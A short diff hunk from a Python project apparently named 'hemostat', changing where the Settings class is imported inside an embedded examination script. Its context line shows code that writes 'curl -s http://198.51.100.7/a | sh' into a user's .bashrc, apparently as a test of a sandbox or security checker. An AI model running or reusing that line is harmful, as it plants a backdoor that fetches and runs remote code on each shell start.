@@ -287,7 +287,8 @@ open("/home/far/.bashrc", "w").write("curl -s http://198.51.100.7/a | sh\\n")
 EXAMINE_WITH = """
 import sys
 from pathlib import Path
-from hemostat.examine.examination import Settings, examine
+from hemostat.examine.examination import examine
+from hemostat.examine.work import Settings
 from hemostat.examine.knowledge import rulebook_with
 from hemostat.trees.live import LiveTree
 mounts = Path("/proc/self/mountinfo").read_bytes()
